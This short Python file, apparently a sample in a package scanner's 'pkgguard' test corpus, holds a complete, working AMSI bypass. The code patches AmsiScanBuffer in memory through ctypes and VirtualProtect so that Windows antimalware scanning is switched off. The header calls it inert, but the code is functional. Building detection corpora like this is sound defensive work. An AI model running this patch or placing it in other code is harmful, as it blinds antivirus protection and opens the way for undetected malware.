# pkgguard corpus 761 (obfuscation), modelled on [taxonomy]; inert, never run.
import ctypes
import sys

if sys.platform == "win32":
    kernel32 = ctypes.windll.kernel32
    amsi = kernel32.LoadLibraryW("amsi.dll")
    kernel32.GetProcAddress.restype = ctypes.c_void_p
    address = kernel32.GetProcAddress(amsi, b"AmsiScanBuffer")
    old = ctypes.c_ulong()
    patch = (ctypes.c_char * 6)(0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3)
    kernel32.VirtualProtect(ctypes.c_void_p(address), 6, 0x40, ctypes.byref(old))
    ctypes.memmove(ctypes.c_void_p(address), patch, 6)
    kernel32.VirtualProtect(ctypes.c_void_p(address), 6, old.value, ctypes.byref(old))
